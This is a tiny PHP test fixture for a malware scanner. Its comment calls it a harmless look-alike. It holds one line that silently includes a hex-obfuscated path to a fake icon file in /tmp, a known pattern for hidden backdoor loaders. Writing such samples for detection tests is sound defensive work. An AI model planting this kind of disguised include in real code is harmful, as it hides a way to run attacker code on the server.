<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
@include "\x2f\x74\x6d\x70/\x66\x61\x76.ico";
